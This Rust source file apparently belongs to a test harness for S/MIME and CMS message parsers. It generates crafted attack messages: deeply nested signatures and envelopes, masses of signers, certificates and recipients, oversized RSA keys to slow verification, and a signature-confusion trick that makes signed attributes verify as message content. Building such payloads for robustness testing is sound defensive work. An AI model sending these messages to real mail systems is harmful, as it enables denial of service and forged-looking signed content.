//! Signatures and envelopes (RFC 5652) that cost more than they weigh.

use openssl::sha::sha256;

use super::Attack;
use crate::message::der::{
    CONTEXT_0, CONTEXT_0_BYTES, INTEGER, NULL, OCTETS, SEQUENCE, SET, UTC_TIME, algorithm, number,
    oid, tlv,
};
use crate::message::{Message, Part, issuer_and_serial};
use crate::pki::Identity;

const SIGNED: &str = "application/pkcs7-mime; smime-type=signed-data";
const ENVELOPED: &str = "application/pkcs7-mime; smime-type=enveloped-data";

pub(super) const DATA_OID: &str = "1.2.840.113549.1.7.1";
const SIGNED_OID: &str = "1.2.840.113549.1.7.2";
const ENVELOPED_OID: &str = "1.2.840.113549.1.7.3";
const SHA256: &str = "2.16.840.1.101.3.4.2.1";
const RSA: &str = "1.2.840.113549.1.1.1";
const SHA256_RSA: &str = "1.2.840.113549.1.1.11";
const SHA512_RSA: &str = "1.2.840.113549.1.1.13";
const AES_256_CBC: &str = "2.16.840.1.101.3.4.1.42";
const CONTENT_TYPE: &str = "1.2.840.113549.1.9.3";
const MESSAGE_DIGEST: &str = "1.2.840.113549.1.9.4";
/// An OCTET STRING of segments.
const SEGMENTED: u8 = OCTETS | 0x20;
const BITS: u8 = 0x03;
const TEXT: u8 = 0x0c;

/// A header line without a colon in segments of one byte.
pub fn tiny_segments(length: usize) -> Attack {
    let line = "a".repeat(length);
    let entity =
        format!("Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n{line}\r\n\r\n--B--\r\n");
    let segments: Vec<u8> = entity.bytes().flat_map(|byte| [OCTETS, 1, byte]).collect();
    let content = tlv(SEGMENTED, &[&segments]);
    Attack::new(SIGNED, signed_data(&content, &[], &[]))
}

/// Layers of SignedData, each by so many signers with so many certificates, whose RSA keys have this
/// modulus and public exponent, in bits. Each signer's attributes are out of order, and its algorithm
/// implies another digest than it names, so that there are several readings to try.
pub fn slow_signers(
    layers: usize,
    bits: usize,
    exponent: usize,
    signers: usize,
    certificates: usize,
) -> Attack {
    let mut random = fastrand::Rng::with_seed(7);
    let modulus = odd_number(&mut random, bits);
    let exponent = odd_number(&mut random, exponent.min(bits - 1));
    let key = tlv(SEQUENCE, &[&integer(&modulus), &integer(&exponent)]);
    let key = tlv(SEQUENCE, &[&algorithm(RSA, &NULL), &tlv(BITS, &[&[0], &key])]);
    // All of the same name and number, so that each may be any signer's, and no two alike.
    let certificates: Vec<u8> = (0..certificates).flat_map(|nth| certificate(&key, nth)).collect();
    let mut value = modulus;
    value[0] >>= 1;
    let mut attack = Attack::new("text/plain", b"hello".to_vec());
    for _ in 0..layers {
        let entity = entity(&attack.content_type, &attack.body);
        let attributes = [
            attribute(MESSAGE_DIGEST, &tlv(OCTETS, &[&sha256(&entity)])),
            attribute(CONTENT_TYPE, &oid(DATA_OID)),
        ]
        .concat();
        let infos: Vec<u8> = (0..signers)
            .flat_map(|nth| {
                value[bits / 8 - 1] = nth.to_le_bytes()[0];
                signer_info(&tlv(CONTEXT_0, &[&attributes]), SHA512_RSA, &value)
            })
            .collect();
        let content = tlv(OCTETS, &[&entity]);
        let output = attack.output + entity.len() as u64;
        let body = signed_data(&content, &certificates, &infos);
        attack = Attack { content_type: SIGNED.to_owned(), body, output };
    }
    attack
}

/// As many signers and certificates as fit into so many bytes, all of them small.
pub fn many_signers(bytes: usize) -> Attack {
    let content = tlv(OCTETS, &[b"Content-Type: text/plain\r\n\r\nhello"]);
    let info = |nth: usize| signer_info(&[], RSA, &nth.to_be_bytes());
    let infos: Vec<u8> = (0..bytes / info(0).len()).flat_map(info).collect();
    Attack::new(SIGNED, signed_data(&content, &[], &infos))
}

/// So many layers of SignedData around each other, with so many bytes of content inside.
pub fn nested_signatures(layers: usize, length: usize) -> Attack {
    let mut attack = Attack::new("application/octet-stream", vec![b'x'; length]);
    for _ in 0..layers {
        let content = tlv(OCTETS, &[&entity(&attack.content_type, &attack.body)]);
        let output = attack.output + content.len() as u64;
        let body = signed_data(&content, &[], &signer_info(&[], RSA, &[1; 256]));
        attack = Attack { content_type: SIGNED.to_owned(), body, output };
    }
    attack
}

/// So many envelopes around each other, each for this recipient.
pub fn nested_envelopes(layers: usize, recipient: &Identity) -> Attack {
    let message = Message::new("A", "B").attach(Part::text("a.txt", "text/plain", "hello"));
    let message = (0..layers).fold(message, |message, _| message.encrypt(recipient));
    let body = message.build().body;
    let output = (body.len() * layers) as u64;
    Attack { content_type: ENVELOPED.to_owned(), body, output }
}

/// An envelope with so many RecipientInfos for one recipient, none of whose keys is right.
pub fn many_recipients(count: usize, recipient: &Identity) -> Attack {
    let length = recipient.key.rsa().map_or(256, |rsa| rsa.size() as usize);
    let name = issuer_and_serial(&recipient.certificate);
    let mut random = fastrand::Rng::with_seed(7);
    let infos: Vec<u8> = (0..count)
        .flat_map(|_| {
            let mut wrapped = vec![0; length];
            random.fill(&mut wrapped);
            wrapped[0] = 0;
            let wrapped = tlv(OCTETS, &[&wrapped]);
            tlv(SEQUENCE, &[&number(0), &name, &algorithm(RSA, &NULL), &wrapped])
        })
        .collect();
    let inner = tlv(
        SEQUENCE,
        &[
            &oid(DATA_OID),
            &algorithm(AES_256_CBC, &tlv(OCTETS, &[&[7; 16]])),
            &tlv(CONTEXT_0_BYTES, &[&[9; 4096]]),
        ],
    );
    let enveloped = tlv(SEQUENCE, &[&number(0), &tlv(SET, &[&infos]), &inner]);
    let body = tlv(SEQUENCE, &[&oid(ENVELOPED_OID), &tlv(CONTEXT_0, &[&enveloped])]);
    Attack::new(ENVELOPED, body)
}

/// A signature that the signer made over signed attributes, passed off as one without attributes whose
/// content is those attributes: both verify over the same bytes.
pub fn attributes_as_content(signer: &Identity) -> Attack {
    let attributes = [
        attribute(CONTENT_TYPE, &oid(DATA_OID)),
        attribute(
            MESSAGE_DIGEST,
            &tlv(OCTETS, &[&sha256(b"Content-Type: text/plain\r\n\r\nan order")]),
        ),
    ]
    .concat();
    let content = tlv(SET, &[&attributes]);
    let mut made = openssl::sign::Signer::new(openssl::hash::MessageDigest::sha256(), &signer.key)
        .expect("a key that signs");
    let value = made.sign_oneshot_to_vec(&content).expect("a key that signs");
    let info = tlv(
        SEQUENCE,
        &[
            &number(1),
            &issuer_and_serial(&signer.certificate),
            &algorithm(SHA256, &NULL),
            &algorithm(RSA, &NULL),
            &tlv(OCTETS, &[&value]),
        ],
    );
    let certificate = signer.certificate.to_der().expect("a certificate that was made");
    Attack::new(SIGNED, signed_data(&tlv(OCTETS, &[&content]), &certificate, &info))
}

// === helpers ===

/// A MIME entity with a header of one field.
pub(super) fn entity(content_type: &str, body: &[u8]) -> Vec<u8> {
    [format!("Content-Type: {content_type}\r\n\r\n").as_bytes(), body].concat()
}

fn signed_data(content: &[u8], certificates: &[u8], infos: &[u8]) -> Vec<u8> {
    let certificates =
        if certificates.is_empty() { Vec::new() } else { tlv(CONTEXT_0, &[certificates]) };
    let data = tlv(
        SEQUENCE,
        &[
            &number(1),
            &tlv(SET, &[&algorithm(SHA256, &NULL)]),
            &tlv(SEQUENCE, &[&oid(DATA_OID), &tlv(CONTEXT_0, &[content])]),
            &certificates,
            &tlv(SET, &[infos]),
        ],
    );
    tlv(SEQUENCE, &[&oid(SIGNED_OID), &tlv(CONTEXT_0, &[&data])])
}

/// Of the signer that all certificates here are of.
fn signer_info(attributes: &[u8], signature: &str, value: &[u8]) -> Vec<u8> {
    tlv(
        SEQUENCE,
        &[
            &number(1),
            &tlv(SEQUENCE, &[&name("x"), &number(1)]),
            &algorithm(SHA256, &NULL),
            attributes,
            &algorithm(signature, &NULL),
            &tlv(OCTETS, &[value]),
        ],
    )
}

fn certificate(key: &[u8], nth: usize) -> Vec<u8> {
    let signature = algorithm(SHA256_RSA, &NULL);
    let time = |text: &[u8]| tlv(UTC_TIME, &[text]);
    let validity = tlv(SEQUENCE, &[&time(b"200101000000Z"), &time(b"490101000000Z")]);
    let version = tlv(CONTEXT_0, &[&number(2)]);
    let fields: [&[u8]; 7] =
        [&version, &number(1), &signature, &name("x"), &validity, &name(&nth.to_string()), key];
    tlv(SEQUENCE, &[&tlv(SEQUENCE, &fields), &signature, &tlv(BITS, &[&[0], &[1; 256]])])
}

fn attribute(kind: &str, value: &[u8]) -> Vec<u8> {
    tlv(SEQUENCE, &[&oid(kind), &tlv(SET, &[value])])
}

fn name(text: &str) -> Vec<u8> {
    let common_name = tlv(SEQUENCE, &[&oid("2.5.4.3"), &tlv(TEXT, &[text.as_bytes()])]);
    tlv(SEQUENCE, &[&tlv(SET, &[&common_name])])
}

/// A positive number of these bytes.
fn integer(bytes: &[u8]) -> Vec<u8> {
    let lead = bytes.iter().take_while(|&&byte| byte == 0).count();
    let significant = &bytes[lead.min(bytes.len() - 1)..];
    let zero: &[u8] = if significant[0] & 0x80 == 0 { &[] } else { &[0] };
    tlv(INTEGER, &[zero, significant])
}

fn odd_number(random: &mut fastrand::Rng, bits: usize) -> Vec<u8> {
    let mut bytes = vec![0; bits.div_ceil(8)];
    random.fill(&mut bytes);
    let spare = bytes.len() * 8 - bits;
    bytes[0] &= 0xff >> spare;
    bytes[0] |= 0x80 >> spare;
    *bytes.last_mut().expect("some bits") |= 1;
    bytes
}
